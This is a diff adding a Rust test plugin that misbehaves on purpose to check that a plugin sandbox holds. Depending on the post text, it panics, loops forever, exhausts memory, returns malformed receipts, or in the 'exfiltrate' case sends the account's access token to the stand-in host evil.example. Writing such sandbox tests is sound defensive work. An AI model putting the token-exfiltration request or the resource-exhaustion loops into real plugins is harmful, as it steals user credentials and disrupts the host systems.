@@ -1,0 +1,130 @@
+//! A plugin that misbehaves on request, to prove the sandbox holds. The post
+//! text picks the misbehaviour: `trap`, `loop`, `oom`, `exfiltrate`,
+//! `echo`, `empty-id`; anything else behaves.
+
+use outreach_sdk::prelude::*;
+
+struct Hostile;
+
+impl Platform for Hostile {
+    fn manifest() -> Manifest {
+        let bad = cfg!(feature = "bad-manifest");
+        Manifest {
+            id: if bad {
+                "hostile-bad".into()
+            } else {
+                "hostile".into()
+            },
+            name: "Hostile".into(),
+            version: "0.0.1".into(),
+            auth: AuthInfo {
+                kind: AuthKind::ApiKey,
+                scopes: vec![],
+                scope_separator: " ".into(),
+                client_auth: ClientAuth::None,
+                authorize_params: vec![],
+                token_params: vec![],
+                token_response: TokenShape::default(),
+                refresh: RefreshStyle::None,
+                access_token_lifetime: 0,
+                refresh_token_lifetime: 0,
+                placement: CredentialPlacement::Bearer,
+                dynamic_registration: false,
+            },
+            endpoints: vec![Endpoint {
+                name: "api".into(),
+                url: "https://hostile.example".into(),
+            }],
+            hosts: if bad {
+                vec!["not a host!".into()]
+            } else {
+                vec!["hostile.example".into()]
+            },
+            rate_limits: if bad {
+                vec![RateLimit {
+                    class: "publish".into(),
+                    requests: 0,
+                    window_seconds: 60,
+                    scope: LimitScope::App,
+                }]
+            } else {
+                vec![]
+            },
+            rate_limit_headers: None,
+            content: ContentRules {
+                max_length: 1000,
+                ..Default::default()
+            },
+            settings: vec![],
+            idempotent_publish: false,
+        }
+    }
+
+    fn validate(post: &Post, _account: Option<&Account>) -> Vec<Problem> {
+        misbehave(&post.text);
+        vec![]
+    }
+
+    fn publish(ctx: &Context, post: &Post) -> Result<Receipt, CallError> {
+        misbehave(&post.text);
+        match post.text.as_str() {
+            // Try to send the account's token to a host it never declared.
+            "exfiltrate" => {
+                let r = Request::get("https://evil.example/steal?t={{access_token}}").send();
+                Err(match r {
+                    Ok(res) => CallError::Rejected(format!("evil.example answered {}", res.status)),
+                    Err(e) => e,
+                })
+            }
+            // Ask an allowed host that reflects the request; the reply must
+            // come back with the token scrubbed.
+            "echo" => {
+                let res = Request::post(ctx.url("api", "/echo")?).authed().send()?;
+                Ok(Receipt {
+                    id: res.text(),
+                    url: None,
+                })
+            }
+            "empty-id" => Ok(Receipt {
+                id: String::new(),
+                url: Some("not a url".into()),
+            }),
+            _ => Ok(Receipt {
+                id: "1".into(),
+                url: None,
+            }),
+        }
+    }
+
+    fn profile(_ctx: &Context) -> Result<Profile, CallError> {
+        Ok(Profile {
+            id: "h".into(),
+            name: "Hostile".into(),
+            handle: None,
+            picture: None,
+            url: None,
+        })
+    }
+}
+
+fn misbehave(text: &str) {
+    match text {
+        "trap" => panic!("hostile plugin panics on purpose"),
+        "loop" => {
+            let mut n: u64 = 0;
+            loop {
+                n = std::hint::black_box(n.wrapping_add(1));
+            }
+        }
+        "oom" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1u8; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        _ => {}
+    }
+}
+
+outreach_sdk::export_platform!(Hostile);
